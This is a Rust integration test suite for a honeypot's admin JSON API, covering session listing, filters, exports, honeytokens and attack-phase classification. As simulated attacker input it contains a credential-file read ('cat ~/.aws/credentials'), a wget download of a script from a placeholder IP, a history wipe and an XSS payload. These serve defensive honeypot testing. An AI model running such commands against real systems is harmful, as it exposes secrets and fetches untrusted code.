//! The admin JSON API (issue 8) on the real binary after a real SSH session: the session is
//! listed and filtered, its detail carries the typed commands (`<script>` and ANSI escapes
//! intact, as JSON strings), exports download with the right type and name, and the alerts,
//! overview, honeytokens and OpenAPI routes answer.

use std::time::Duration;

use serde_json::Value;

use crate::common::{NodeProcess, PgDatabase, SshShell, http_request, pg_addr, poll_until};

/// A command line an attacker could type to attack the admin UI: HTML and an ANSI colour.
const XSS: &str = "echo '<script>alert(\"x\")</script>' \u{1b}[31mred\u{1b}[0m";

fn get(node: &NodeProcess, path: &str) -> (u16, String, String) {
    tokio::task::block_in_place(|| http_request(node.admin, "GET", path, &[]))
}

fn json(node: &NodeProcess, path: &str) -> Value {
    let (status, head, body) = get(node, path);
    assert_eq!(status, 200, "{path}: {body}");
    assert!(
        head.to_ascii_lowercase()
            .contains("content-type: application/json"),
        "{path}: {head}"
    );
    serde_json::from_str(&body).unwrap_or_else(|e| panic!("{path}: {e}: {body}"))
}

fn header<'a>(head: &'a str, name: &str) -> Option<&'a str> {
    head.lines().find_map(|l| {
        let (k, v) = l.split_once(':')?;
        k.trim().eq_ignore_ascii_case(name).then(|| v.trim())
    })
}

/// The ids of the sessions `GET /api/sessions?<query>` lists.
fn listed(node: &NodeProcess, query: &str) -> Vec<String> {
    let page = json(node, &format!("/api/sessions?{query}"));
    page["sessions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["session"].as_str().unwrap().to_owned())
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_api_shows_a_real_ssh_session() {
    // Fixed Layer 3 settings (the defaults): the session announces them once, at its start.
    let node = NodeProcess::start(&[("MIRAGE_STRATEGY_MODE", "fixed")]);
    let mut shell = SshShell::open(node.ssh).await;
    shell.run("cat ~/.aws/credentials").await;
    shell.run("uname -a").await;
    // An exec request keeps the line byte for byte (no line editor in the way).
    shell.exec(XSS).await;
    shell
        .handle
        .disconnect(russh::Disconnect::ByApplication, "bye", "en")
        .await
        .expect("disconnect");
    drop(shell);

    // The session appears, closed, once the sink has stored its events.
    let summary = tokio::task::block_in_place(|| {
        poll_until(
            Duration::from_secs(30),
            || {
                let page = json(&node, "/api/sessions");
                let s = page["sessions"].as_array()?.first()?.clone();
                (s["closed"] == true && s["commands"].as_u64() >= Some(3)).then_some(s)
            },
            || format!("no closed session: {}", get(&node, "/api/sessions").2),
        )
    });
    let id = summary["session"].as_str().unwrap().to_owned();
    assert_eq!(summary["protocol"], "ssh");
    assert_eq!(summary["src_ip"], "127.0.0.1");
    assert_eq!(summary["username"], "root");
    assert_eq!(summary["honeytoken_read"], true);
    assert!(summary["login_attempts"].as_u64() >= Some(1));

    // Filters narrow the list.
    for (query, present) in [
        ("", true),
        ("username=root", true),
        ("username=nobody", false),
        ("ip=127.0.0.0/8", true),
        ("ip=127.0.0.1", true),
        ("ip=10.0.0.0/8", false),
        ("protocol=ssh", true),
        ("protocol=http", false),
        ("honeytoken=true", true),
        ("honeytoken=false", false),
        ("downloaded=true", false),
        ("since=2000-01-01T00:00:00Z&limit=1", true),
        ("until=2000-01-01T00:00:00Z", false),
    ] {
        assert_eq!(
            listed(&node, query).contains(&id),
            present,
            "/api/sessions?{query}"
        );
    }
    // Bad parameters are refused with a message that says why.
    for (query, says) in [
        ("limit=100000", "limit must be a number from 1 to 500"),
        ("ip=not-an-ip", "ip must be an address or a CIDR prefix"),
        ("since=yesterday", "since must be an RFC 3339 time"),
        ("colour=red", "unknown parameter"),
    ] {
        let (status, _, body) = get(&node, &format!("/api/sessions?{query}"));
        assert_eq!(status, 400, "{query}: {body}");
        let error: Value = serde_json::from_str(&body).unwrap();
        assert!(error["error"].as_str().unwrap().contains(says), "{body}");
    }

    // The detail: the typed lines come back exactly, as JSON strings.
    let (status, _, raw) = get(&node, &format!("/api/sessions/{id}"));
    assert_eq!(status, 200, "{raw}");
    assert!(!raw.contains('\u{1b}'), "a raw escape byte in the JSON");
    assert!(!raw.contains("<script>alert(\"x\")"), "an unescaped quote");
    let detail: Value = serde_json::from_str(&raw).unwrap();
    let inputs: Vec<&str> = detail["timeline"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["event"] == "command_input")
        .map(|e| e["input"].as_str().unwrap())
        .collect();
    assert!(inputs.contains(&XSS), "{inputs:?}");
    assert!(inputs.contains(&"uname -a"), "{inputs:?}");
    assert_eq!(detail["summary"]["session"], id.as_str());
    assert_eq!(detail["truncated"], false);
    // Each class change carries the attack phase; the summary shows the latest one.
    let classifications = detail["classifications"].as_array().unwrap();
    assert!(!classifications.is_empty(), "{raw}");
    const PHASES: [&str; 6] = [
        "recon",
        "credential_access",
        "download_execute",
        "persistence",
        "lateral",
        "cleanup",
    ];
    for c in classifications {
        assert!(PHASES.contains(&c["phase"].as_str().unwrap_or("")), "{c}");
    }
    let latest_phase = &classifications.last().unwrap()["phase"];
    assert_eq!(&summary["phase"], latest_phase, "{summary}");
    // The settings in force, in the summary and as the detail's strategy changes.
    let settings = "latency=none enticement=medium richness=standard errors=off vulnerable=never";
    assert_eq!(summary["strategy"], settings, "{summary}");
    let strategies = detail["strategies"].as_array().unwrap();
    assert_eq!(strategies.len(), 1, "{raw}");
    assert_eq!(strategies[0]["summary"], settings);
    assert_eq!(strategies[0]["mode"], "fixed");
    assert_eq!(strategies[0]["settings"]["latency"], "none");
    assert_eq!(
        detail["attacker_url"],
        format!("/api/sessions/{id}/attacker")
    );
    // The attacker record it links to exists.
    let attacker = json(&node, detail["attacker_url"].as_str().unwrap());
    assert!(
        attacker["sessions"]
            .as_array()
            .unwrap()
            .iter()
            .any(|s| s["session"] == id.as_str())
    );
    assert_eq!(get(&node, "/api/sessions/ffffffffffff").0, 404);

    // Exports download with a content type and a file name.
    for (format, content_type, extension) in [
        ("scenario", "application/yaml", "yaml"),
        ("cowrie-json", "application/x-ndjson", "json"),
        ("asciicast", "application/x-asciicast", "cast"),
    ] {
        let url = detail["exports"][format].as_str().unwrap().to_owned();
        let (status, head, body) = get(&node, &url);
        assert_eq!(status, 200, "{format}: {body}");
        assert!(
            header(&head, "content-type")
                .unwrap()
                .starts_with(content_type),
            "{head}"
        );
        let disposition = header(&head, "content-disposition").unwrap();
        assert_eq!(
            disposition,
            format!(
                "attachment; filename=\"mirage-{id}-{}.{extension}\"",
                match format {
                    "cowrie-json" => "cowrie",
                    other => other,
                }
            )
        );
        match format {
            "scenario" => assert!(body.contains("uname -a"), "{body}"),
            "cowrie-json" => {
                let first: Value = serde_json::from_str(body.lines().next().unwrap()).unwrap();
                assert_eq!(first["session"], id.as_str());
                assert!(body.lines().any(|l| l.contains("cowrie.command.input")));
            }
            _ => {
                let header_line: Value =
                    serde_json::from_str(body.lines().next().unwrap()).unwrap();
                assert_eq!(header_line["version"], 2, "{body}");
            }
        }
    }
    let (status, _, body) = get(&node, &format!("/api/sessions/{id}/export?format=pdf"));
    assert_eq!(status, 400, "{body}");
    assert!(body.contains("unknown format"), "{body}");
    assert_eq!(get(&node, &format!("/api/sessions/{id}/export")).0, 400);

    // Honeytokens: the AWS key is planted, and our session read it.
    let tokens = json(&node, "/api/honeytokens");
    let aws = tokens
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["token"] == "aws-root-credentials")
        .expect("the AWS key is listed");
    assert_eq!(aws["placement"], "/root/.aws/credentials");
    assert!(
        aws["reads"]
            .as_array()
            .unwrap()
            .iter()
            .any(|r| r["session"] == id.as_str())
    );
    assert!(!tokens.to_string().contains("aws_secret_access_key"));

    // The overview counts the session and its commands.
    let overview = json(&node, "/api/overview");
    assert_eq!(overview["hourly"].as_array().unwrap().len(), 24);
    assert!(
        overview["hourly"]
            .as_array()
            .unwrap()
            .iter()
            .map(|h| h["sessions"].as_u64().unwrap())
            .sum::<u64>()
            >= 1
    );
    assert!(
        overview["top_commands"]
            .as_array()
            .unwrap()
            .iter()
            .any(|c| c["value"] == "uname -a")
    );
    assert_eq!(overview["top_networks"][0]["value"], "127.0.0.0/24");
    assert_eq!(overview["store"]["ok"], true);
    assert_eq!(overview["store"]["backend"], "sqlite");

    // Alerts answer (the honeytoken read may or may not alert; the shape is what matters).
    let alerts = json(&node, "/api/alerts?severity=info&limit=10");
    assert!(alerts["alerts"].is_array());
    assert_eq!(get(&node, "/api/alerts?severity=loud").0, 400);

    // The typed commands were predicted: the accuracy series counts them under the loaded
    // model version, and the models page charts them.
    let version = json(&node, "/api/models")["version"]
        .as_str()
        .unwrap()
        .to_owned();
    let accuracy = json(&node, "/api/models/accuracy");
    let hours = accuracy["hours"].as_array().unwrap();
    let predicted: u64 = hours
        .iter()
        .filter(|h| h["model"] == version.as_str())
        .map(|h| h["predictions"].as_u64().unwrap())
        .sum();
    assert!(predicted >= 2, "{accuracy}");
    for h in hours {
        let (n, top1, top3) = (
            h["predictions"].as_u64().unwrap(),
            h["hits_top1"].as_u64().unwrap(),
            h["hits_top3"].as_u64().unwrap(),
        );
        assert!(top1 <= top3 && top3 <= n, "{h}");
    }
    let (status, _, page) = get(&node, "/models");
    assert_eq!(status, 200);
    assert!(page.contains(&format!("{predicted} predictions")), "{page}");
    assert!(page.contains("<rect class=\"top1\""), "{page}");

    // The OpenAPI document describes every route used here.
    let doc = json(&node, "/api/openapi.json");
    for path in [
        "/api/sessions",
        "/api/sessions/{id}",
        "/api/sessions/{id}/export",
        "/api/sessions/{id}/attacker",
        "/api/alerts",
        "/api/overview",
        "/api/honeytokens",
        "/api/models",
        "/api/models/accuracy",
    ] {
        assert!(doc["paths"][path]["get"].is_object(), "{path}");
    }
}

/// A node killed with SIGKILL never stores its sessions' end; restarted on the same data
/// directory (same node id), it closes them, so the overview stops counting them as open,
/// while a session of the new run stays live.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_restarted_node_closes_the_sessions_its_killed_run_left_open() {
    let data = tempfile::tempdir().expect("tempdir");
    let dir = data.path().join("data");
    let mut node = NodeProcess::start_in(&dir, &[]);
    let mut shell = SshShell::open(node.ssh).await;
    shell.run("uname -a").await;
    let stale = tokio::task::block_in_place(|| {
        poll_until(
            Duration::from_secs(30),
            || {
                let page = json(&node, "/api/sessions");
                let s = page["sessions"].as_array()?.first()?.clone();
                (s["commands"].as_u64() >= Some(1)).then_some(s)
            },
            || format!("no stored session: {}", get(&node, "/api/sessions").2),
        )
    });
    let id = stale["session"].as_str().unwrap().to_owned();
    assert_eq!(stale["closed"], false);
    assert_eq!(json(&node, "/api/overview")["live_sessions"], 1);
    node.kill();
    drop(shell);

    let node = NodeProcess::start_in(&dir, &[]);
    let closed = tokio::task::block_in_place(|| {
        poll_until(
            Duration::from_secs(30),
            || {
                let s = json(&node, &format!("/api/sessions/{id}"))["summary"].clone();
                (s["closed"] == true).then_some(s)
            },
            || {
                format!(
                    "{id} still open: {}",
                    get(&node, &format!("/api/sessions/{id}")).2
                )
            },
        )
    });
    assert!(closed["duration_ms"].is_u64(), "{closed}");
    assert_eq!(json(&node, "/api/overview")["live_sessions"], 0);

    // A session of the new run is live and stays so.
    let _shell = SshShell::open(node.ssh).await;
    tokio::task::block_in_place(|| {
        poll_until(
            Duration::from_secs(30),
            || (json(&node, "/api/overview")["live_sessions"] == 1).then_some(()),
            || get(&node, "/api/overview").2,
        )
    });
    let page = json(&node, "/api/sessions");
    let old = page["sessions"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["session"] == id.as_str())
        .expect("the old session is still listed");
    assert_eq!(old["closed"], true);
}

/// On PostgreSQL too, a real session's attack phase and deception settings reach its summary
/// and detail: a download makes the phase `download_execute`, and a later `history -c`
/// (cleanup) is what the summary ends with.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn phase_and_strategy_reach_the_api_on_postgres() {
    let mut db = PgDatabase::create().await;
    let url = db.url(pg_addr());
    let node = NodeProcess::start(&[
        ("MIRAGE_DATABASE_URL", &url),
        ("MIRAGE_STRATEGY_MODE", "fixed"),
        ("MIRAGE_STRATEGY_FIXED_ENTICEMENT", "high"),
        // The rule labeller only: the phase is the tagged phase of the latest command.
        ("MIRAGE_MODELS_DIR", "/nonexistent/models"),
    ]);
    let mut shell = SshShell::open(node.ssh).await;
    shell.run("uname -a").await;
    shell.run("cd /tmp; wget http://198.51.100.9/x.sh").await;
    shell.run("history -c").await;
    drop(shell);
    let summary = tokio::task::block_in_place(|| {
        poll_until(
            Duration::from_secs(30),
            || {
                let page = json(&node, "/api/sessions");
                let s = page["sessions"].as_array()?.first()?.clone();
                (s["phase"] == "cleanup" && s["strategy"].is_string()).then_some(s)
            },
            || format!("no phase and strategy: {}", get(&node, "/api/sessions").2),
        )
    });
    assert_eq!(
        summary["strategy"],
        "latency=none enticement=high richness=standard errors=off vulnerable=never"
    );
    let id = summary["session"].as_str().unwrap();
    let detail = json(&node, &format!("/api/sessions/{id}"));
    let phases: Vec<&str> = detail["classifications"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|c| c["phase"].as_str())
        .collect();
    assert_eq!(phases.first(), Some(&"recon"), "{detail}");
    assert!(phases.contains(&"download_execute"), "{phases:?}");
    assert_eq!(phases.last(), Some(&"cleanup"), "{phases:?}");
    assert_eq!(detail["strategies"][0]["settings"]["enticement"], "high");
    // The list filters by class as before, and shows the same row.
    let class = summary["class"].as_str().unwrap();
    assert!(listed(&node, &format!("class={class}")).contains(&id.to_owned()));
    drop(node);
    db.drop_now().await;
}
